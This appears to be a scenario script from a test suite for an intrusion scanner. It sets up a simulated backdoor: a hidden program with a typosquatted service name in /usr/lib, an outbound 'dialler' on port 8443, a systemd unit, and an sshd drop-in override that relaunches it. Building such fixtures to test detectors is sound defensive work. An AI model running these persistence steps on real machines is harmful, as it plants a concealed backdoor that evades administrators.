# id: C05
# mode: scan
# level: suspicious
# due: now
# network: world
# title: a unit with a name like a known one, a drop-in for sshd and their program
. "$here/intruder.sh"
word name
pick unit systemd-jounald dbus-daemonn systemd-netwrokd ssh-agentd
place=/usr/lib/.$name
mkdir -p "$place"
dialler "$place/$name" 8443
wait_for reaches_world >/dev/null
unit "$unit" "$place/$name"
mkdir -p /etc/systemd/system/ssh.service.d
printf '[Service]\nExecStartPost=-/bin/sh -c "%s &"\n' "$place/$name" >/etc/systemd/system/ssh.service.d/override.conf
start "$place/$name"
dialled "$name"
said pid "$pid"
said path /etc/systemd/system/ssh.service.d/override.conf
said restarter path "/etc/systemd/system/$unit.service"
